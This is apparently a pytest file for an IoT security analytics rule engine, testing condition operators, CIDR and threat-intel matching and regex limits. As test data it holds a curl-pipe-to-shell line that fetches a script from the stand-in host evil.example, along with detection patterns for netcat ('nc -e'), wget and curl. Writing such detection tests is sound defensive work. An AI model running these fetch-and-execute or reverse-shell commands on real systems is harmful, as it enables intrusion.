"""Compiled conditions: every operator, case rules, missing fields, CIDR, intel lookups."""

from __future__ import annotations

import pytest

from iotsec.analytics import Observation
from iotsec.analytics.indicators import NO_INTEL, IntelLookup
from iotsec.analytics.rules import RuleEngine, load_rules_text
from iotsec.analytics.rules.conditions import (
    MAX_INTEL_CANDIDATES,
    Predicate,
    compile_condition,
    intel_candidates,
)
from tests.analytics.rules.conftest import FakeIntel, make_obs


def predicate(condition: str, intel: IntelLookup = NO_INTEL) -> Predicate:
    """The compiled ``match`` of a rule whose match is ``condition`` (flow YAML)."""
    text = (
        "rules:\n  - id: R\n    name: r\n    severity: Low\n    description: d\n"
        f"    match: {condition}\n"
    )
    (rule,) = load_rules_text(text).rules
    assert rule.match is not None
    return compile_condition(rule.match, intel)


def with_field(value: object, name: str = "Executable") -> Observation:
    return make_obs(fields={name: value})


MISSING = make_obs(fields={})


@pytest.mark.parametrize(
    ("condition", "value", "expected"),
    [
        ("{field: Executable, equals: /bin/NC}", "/bin/nc", True),
        ("{field: Executable, equals: /bin/NC, case: sensitive}", "/bin/nc", False),
        ("{field: Executable, equals: /bin/nc, case: sensitive}", "/bin/nc", True),
        ("{field: Executable, equals: 22}", "22", True),
        ("{field: Executable, equals: 22}", "022", True),
        ("{field: Executable, equals: 22}", 22, True),
        ("{field: Executable, equals: 22}", 22.0, True),
        ("{field: Executable, equals: '22'}", 22, True),
        ("{field: Executable, equals: 22}", "22a", False),
        ("{field: Executable, equals: 1.5}", "1.50", True),
        ("{field: Executable, equals: true}", True, True),
        ("{field: Executable, equals: true}", "True", True),
        ("{field: Executable, equals: true}", 1, False),
        ("{field: Executable, equals: nan}", "NaN", True),  # text, not a number
        ("{field: Executable, equals: x}", {"x": 1}, False),
        ("{field: Executable, equals: x}", ["x"], False),
        ("{field: Executable, in: [sh, BASH]}", "bash", True),
        ("{field: Executable, in: [sh, BASH], case: sensitive}", "bash", False),
        ("{field: Executable, in: [22, 2222]}", "2222", True),
        ("{field: Executable, in: [22, 2222]}", 23, False),
        ("{field: Executable, contains: WGET}", "/usr/bin/wget -q", True),
        ("{field: Executable, contains: [curl, wget]}", "x curl y", True),
        ("{field: Executable, contains: [curl, wget]}", "x fetch y", False),
        ("{field: Executable, contains: WGET, case: sensitive}", "wget", False),
        ("{field: Executable, contains: '4'}", 1234, True),
        ("{field: Executable, startswith: [/tmp/, /dev/shm/]}", "/DEV/SHM/x", True),
        ("{field: Executable, startswith: /tmp/}", "/var/tmp/x", False),
        ("{field: Executable, endswith: [.sh, .py]}", "run.PY", True),
        ("{field: Executable, endswith: .sh, case: sensitive}", "run.SH", False),
        ("{field: Executable, regex: 'x[0-9]+y'}", "aX12Yb", True),
        ("{field: Executable, regex: 'x[0-9]+y', case: sensitive}", "aX12Yb", False),
        ("{field: Executable, regex: '^12'}", 123, True),
        ("{field: Executable, regex: '.*'}", {"a": "b"}, False),
        ("{field: Executable, gte: 10}", "10", True),
        ("{field: Executable, gte: 10}", 9.5, False),
        ("{field: Executable, gt: 10}", 10, False),
        ("{field: Executable, lt: 10}", " 9 ", True),
        ("{field: Executable, lte: -1.5}", "-1.5", True),
        ("{field: Executable, lt: 10}", True, False),  # booleans are not numbers
        ("{field: Executable, lt: 10}", "nan", False),
        ("{field: Executable, lt: 10}", "1e999", False),
        ("{field: Executable, gt: 10}", 10**400, False),
        ("{field: Executable, lt: 10}", "ten", False),
        ("{field: Executable, exists: true}", "", True),
        ("{field: Executable, exists: false}", "", False),
    ],
)
def test_operators(condition: str, value: object, expected: bool) -> None:
    assert predicate(condition)(with_field(value)) is expected


@pytest.mark.parametrize(
    "condition",
    [
        "{field: Executable, equals: x}",
        "{field: Executable, in: [x]}",
        "{field: Executable, contains: x}",
        "{field: Executable, startswith: x}",
        "{field: Executable, endswith: x}",
        "{field: Executable, regex: '.*'}",
        "{field: Executable, cidr: 0.0.0.0/0}",
        "{field: Executable, intel: ip}",
        "{field: Executable, gte: 0}",
        "{field: Executable, lt: 0}",
        "{field: Executable, exists: true}",
    ],
)
def test_a_missing_field_matches_nothing(condition: str) -> None:
    assert predicate(condition, FakeIntel({"ip": {""}}))(MISSING) is False
    assert predicate(f"{{not: {condition}}}")(MISSING) is True


def test_exists_false_is_the_one_test_a_missing_field_passes() -> None:
    assert predicate("{field: Executable, exists: false}")(MISSING) is True
    assert predicate("{field: Executable, exists: false}")(with_field(None)) is True


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("10.1.2.3", True),
        ("10.255.255.255", True),
        ("11.0.0.1", False),
        ("192.168.7.1", True),
        ("192.168.8.1", False),
        ("::ffff:10.0.0.5", True),  # IPv4-mapped IPv6
        ("2001:db8::1", True),
        ("[2001:db8::1]", True),
        ("2001:db9::1", False),
        ("fe80::1", False),
        (" 10.0.0.1 ", True),
        ("10.0.0.1:22", False),
        ("not an address", False),
        ("", False),
        (167772161, False),  # an integer is not an address as written
    ],
)
def test_cidr_v4_and_v6(value: object, expected: bool) -> None:
    test = predicate("{field: RemoteAddress, cidr: [10.0.0.0/8, 192.168.0.0/21, '2001:db8::/32']}")
    assert test(with_field(value, "RemoteAddress")) is expected


def test_cidr_with_a_single_address_and_everything() -> None:
    one = predicate("{field: RemoteAddress, cidr: 203.0.113.7}")
    assert one(with_field("203.0.113.7", "RemoteAddress"))
    assert not one(with_field("203.0.113.8", "RemoteAddress"))
    anywhere = predicate("{field: RemoteAddress, cidr: ['0.0.0.0/0', '::/0']}")
    assert anywhere(with_field("8.8.8.8", "RemoteAddress"))
    assert anywhere(with_field("::1", "RemoteAddress"))


def test_intel_ip_and_hash_look_the_value_up_as_is() -> None:
    intel = FakeIntel({"ip": {"203.0.113.7"}, "hash": {"ab" * 20}})
    ip = predicate("{field: RemoteAddress, intel: ip}", intel)
    assert ip(with_field("203.0.113.7", "RemoteAddress"))
    assert not ip(with_field("203.0.113.8", "RemoteAddress"))
    hashed = predicate("{field: ExtraDetails.Sha1, intel: hash}", intel)
    assert hashed(make_obs(fields={"ExtraDetails": {"Sha1": "AB" * 20}}))
    assert ("ip", "203.0.113.8") in intel.asked


def test_intel_url_and_domain_search_the_text() -> None:
    intel = FakeIntel({"url": {"http://evil.example/x.sh"}, "domain": {"evil.example"}})
    url = predicate("{field: CommandLine, intel: url}", intel)
    domain = predicate("{field: CommandLine, intel: domain}", intel)
    line = "sh -c 'curl -s http://evil.example/x.sh | sh'"
    assert url(with_field(line, "CommandLine"))
    assert domain(with_field(line, "CommandLine"))
    assert domain(with_field("ping evil.example", "CommandLine"))
    assert domain(with_field("evil.example", "CommandLine"))
    assert not domain(with_field("ping good.example", "CommandLine"))
    assert not url(with_field("wget http://good.example/x.sh", "CommandLine"))


def test_intel_candidates_are_bounded() -> None:
    text = " ".join(f"host{i}.example" for i in range(100))
    found = list(intel_candidates("domain", text))
    assert found[0] == text
    assert found[1:3] == ["host0.example", "host1.example"]
    assert len(found) == MAX_INTEL_CANDIDATES
    assert list(intel_candidates("ip", " 1.2.3.4 ")) == ["1.2.3.4"]
    assert list(intel_candidates("url", "   ")) == []


def test_paths_and_context_names() -> None:
    obs = make_obs(
        "Login",
        {"ExtraDetails": {"HitCount": "7"}, "Result": "Fail"},
        device="cam-1",
        group="Cameras",
        tags={"site": "north"},
    )
    assert predicate("{field: ExtraDetails.HitCount, gte: 5}")(obs)
    assert predicate("{field: Tags.site, equals: NORTH}")(obs)
    assert predicate("{field: Group, equals: cameras}")(obs)
    assert predicate("{field: DeviceId, startswith: cam-}")(obs)
    assert predicate("{field: Name, equals: login}")(obs)
    assert predicate("{field: Source, equals: agent}")(obs)
    assert predicate("{field: ModuleId, exists: false}")(obs)
    assert not predicate("{field: ExtraDetails.Missing, exists: true}")(obs)
    assert not predicate("{field: Tags.site.deeper, exists: true}")(obs)


def test_event_source_and_combinators() -> None:
    login = make_obs("Login", {"Result": "Fail", "UserName": "root"})
    hub = make_obs("authenticate", {"Result": "Failure"}, source="hub")
    assert predicate("{event: [Login, ProcessCreate]}")(login)
    assert not predicate("{event: ProcessCreate}")(login)
    assert not predicate("{event: authenticate}")(login)  # names are exact
    assert predicate("{source: hub}")(hub) and not predicate("{source: hub}")(login)
    both = "{event: Login, field: Result, equals: fail, not: {field: UserName, in: [ci, test]}}"
    assert predicate(both)(login)
    assert not predicate(both)(make_obs("Login", {"Result": "Fail", "UserName": "ci"}))
    either = (
        "{any: [{field: UserName, equals: admin},"
        " {all: [{source: agent}, {field: Result, equals: Fail}]}]}"
    )
    assert predicate(either)(login)
    assert not predicate(either)(hub)


def test_cheap_tests_run_before_intel() -> None:
    intel = FakeIntel({"ip": {"203.0.113.7"}})
    test = predicate(
        "{all: [{field: RemoteAddress, intel: ip}, {field: Direction, equals: Out}]}", intel
    )
    assert not test(make_obs("ConnectionCreate", {"RemoteAddress": "1.2.3.4", "Direction": "In"}))
    assert intel.asked == []  # the equality failed first, so the lookup never ran
    assert test(make_obs("ConnectionCreate", {"RemoteAddress": "203.0.113.7", "Direction": "out"}))


def test_a_huge_value_is_searched_only_up_to_the_cap() -> None:
    from iotsec.analytics.rules.conditions import MAX_REGEX_TEXT  # noqa: PLC0415

    ruleset = load_rules_text(
        "rules:\n"
        "  - id: Huge\n    name: n\n    severity: Low\n    tactic: Execution\n"
        "    technique: T1059\n    description: d\n"
        "    match: {event: ProcessCreate, field: CommandLine, regex: 'nc -e'}\n",
        source="huge.yaml",
    )
    engine = RuleEngine(ruleset)
    near = "a" * (MAX_REGEX_TEXT - 10) + " nc -e x"
    far = "a" * (MAX_REGEX_TEXT + 10) + " nc -e x"
    fired = engine.observe(make_obs(fields={"CommandLine": near}))
    assert [d.rule_id for d in fired] == ["Huge"]
    assert engine.observe(make_obs(fields={"CommandLine": far}, device="dev-2")) == []
